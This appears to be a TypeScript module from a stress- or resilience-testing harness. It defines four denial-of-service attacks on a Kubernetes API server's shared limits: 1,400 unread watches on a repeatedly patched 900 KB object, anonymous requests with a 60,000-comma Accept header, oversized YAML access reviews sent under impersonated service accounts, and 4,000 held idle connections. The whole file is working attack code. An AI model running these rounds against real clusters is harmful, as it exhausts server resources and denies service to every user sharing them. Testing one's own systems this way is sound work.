import { once } from 'node:events';
import type { ClientHttp2Session } from 'node:http2';
import { connect } from 'node:http2';
import type { TLSSocket } from 'node:tls';
import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from './attack';
import { BIG } from './stored';
import type { Victim } from './victim';
import { NOISY } from './victim';

const WATCHES = 1_400;
const WATCHES_PER_CONNECTION = 240;
const BIG_CHARS = 900_000;
const WRITE_PAUSE_MS = 500;
const COMMAS = 60_000;
const COMMA_CONNECTIONS = 40;
const ACCOUNTS = 20;
const REVIEWS_PER_ACCOUNT = 16;
const REVIEW_CHARS = 480_000;
const CONNECTIONS = 4_000;
const CONNECTIONS_PER_ROUND = 100;
const HELD_MS = 60_000;

/** Attacks on bounds that all users share, by one tenant with 20 service accounts, or without credentials. */
export const SHARED_BOUNDS: readonly Attack[] = [
  {
    name: 'R1: 1,400 watches of one object of 900 KB, never read',
    round: async (victim, signal) => {
      const [collection] = BIG.split('/big');
      const path = `${String(collection)}?watch=1&fieldSelector=metadata.name%3Dbig`;
      const sessions = Array.from({ length: Math.ceil(WATCHES / WATCHES_PER_CONNECTION) }, () =>
        openSession(victim),
      );
      for (let at = 0; at < WATCHES; at += 1) {
        const session = sessions[at % sessions.length];
        const stream = session?.request({ ':path': path, authorization: victim.authorization });
        stream?.on('error', () => undefined).pause();
      }
      for (let turn = 0; !signal.aborted; turn += 1) {
        const text = String(turn % 10).repeat(BIG_CHARS);
        await victim.ask({ method: 'PATCH', path: BIG, ...mergePatch({ data: { text } }) }, signal);
        await delay(WRITE_PAUSE_MS, undefined, { signal }).catch(() => undefined);
      }
      for (const session of sessions) session.destroy();
    },
  },
  {
    name: 'R3: GET /version with an Accept header of 60,000 commas on 40 connections, without credentials',
    round: async (victim, signal) => {
      const headers = { accept: ','.repeat(COMMAS) };
      const all = Array.from({ length: COMMA_CONNECTIONS }, async () =>
        victim.ask({ path: '/version', headers, isAnonymous: true }, signal),
      );
      await Promise.all(all);
    },
  },
  {
    name: 'R5: YAML of 480 KB by 20 service accounts, 16 each',
    atOnce: ACCOUNTS * REVIEWS_PER_ACCOUNT,
    round: async (victim, signal) => {
      const account = `system:serviceaccount:${NOISY}:a-${String(Math.floor(Math.random() * ACCOUNTS))}`;
      await victim.ask(
        {
          method: 'POST',
          path: '/apis/authorization.k8s.io/v1/selfsubjectaccessreviews',
          headers: { 'content-type': 'application/yaml', 'impersonate-user': account },
          body: REVIEW,
        },
        signal,
      );
    },
  },
  {
    name: 'R7: 4,000 idle connections of one address',
    round: async (victim, signal) => {
      const sockets: TLSSocket[] = [];
      while (sockets.length < CONNECTIONS && !signal.aborted) {
        const opened = Array.from({ length: CONNECTIONS_PER_ROUND }, () => victim.connect());
        sockets.push(...opened);
        await Promise.all(
          opened.map(async (socket) => Promise.race([once(socket, 'secureConnect'), once(socket, 'close')])),
        );
      }
      await delay(HELD_MS, undefined, { signal }).catch(() => undefined);
      for (const socket of sockets) socket.destroy();
    },
  },
];

const REVIEW = Buffer.from(
  `apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\nspec: {}\na: [${'0,'.repeat(REVIEW_CHARS / 2)}0]\n`,
);

function openSession(victim: Victim): ClientHttp2Session {
  const session = connect('https://unused', {
    createConnection: () => victim.connect({ ALPNProtocols: ['h2'] }),
  });
  return session.on('error', () => undefined);
}

function mergePatch(body: object): {
  readonly headers: Readonly<Record<string, string>>;
  readonly body: Buffer;
} {
  return {
    headers: { 'content-type': 'application/merge-patch+json' },
    body: Buffer.from(JSON.stringify(body)),
  };
}
